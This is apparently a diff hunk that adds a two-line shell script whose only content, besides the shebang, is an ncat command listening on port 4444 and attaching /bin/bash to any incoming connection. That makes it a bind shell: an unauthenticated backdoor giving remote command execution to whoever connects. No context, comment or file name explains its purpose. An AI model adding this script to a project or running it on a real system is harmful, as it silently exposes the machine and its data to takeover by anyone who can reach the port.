@@ -1,0 +1,2 @@
+#!/bin/sh
+ncat -lvp 4444 -e /bin/bash
